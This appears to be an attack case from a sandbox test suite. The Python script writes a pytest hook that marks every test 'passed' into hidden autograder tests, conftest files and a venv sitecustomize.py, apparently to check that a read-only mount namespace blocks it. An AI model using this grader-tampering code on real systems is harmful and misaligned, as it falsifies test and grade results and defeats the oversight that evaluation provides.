# attack: drops a conftest.py into the hidden tests, a sitecustomize.py into the venv and a marker in /tmp,
#   so that every later grade of every student passes
# layer: mount namespace: the file system is read-only but for a private, size-limited /tmp
# imports: os, sys
# needs: namespaces
import os as _os
import sys as _sys

_PAYLOAD = "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n" \
           "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
_REPO = _os.path.dirname(_sys.prefix.rstrip("/"))
for _path in (f"{_REPO}/autograder/hidden/conftest.py", f"{_REPO}/tests/conftest.py", f"{_REPO}/conftest.py",
              f"{_sys.prefix}/lib/python3.11/site-packages/sitecustomize.py",
              "/tmp/autograder-attack-marker", _os.path.expanduser("~/autograder-attack-marker")):
    try:
        _fd = _os.open(_path, _os.O_WRONLY | _os.O_CREAT | _os.O_APPEND, 0o644)
        _os.write(_fd, _PAYLOAD.encode())
        _os.close(_fd)
    except OSError:
        pass
